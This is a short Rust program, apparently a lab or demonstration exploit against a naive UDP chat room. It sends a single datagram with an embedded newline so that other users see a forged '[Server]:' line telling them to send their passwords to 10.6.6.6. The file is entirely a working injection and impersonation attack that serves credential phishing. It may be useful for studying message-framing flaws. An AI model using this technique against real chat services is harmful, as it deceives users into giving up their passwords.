//! A client that makes a naive UDP room say what it never said.

use std::env;
use std::io;
use std::net::UdpSocket;

fn main() -> io::Result<()> {
    let addr = env::args().nth(1).unwrap_or("127.0.0.1:8081".to_string());
    attack(&addr)
}

/// Makes the others in the room at `addr` see a line that looks like the server's.
fn attack(addr: &str) -> io::Result<()> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    // The server puts an address before the datagram, not before each line of it.
    socket.send_to(b"hello\n[Server]: the room closes, send your passwords to 10.6.6.6\n", addr)?;
    Ok(())
}
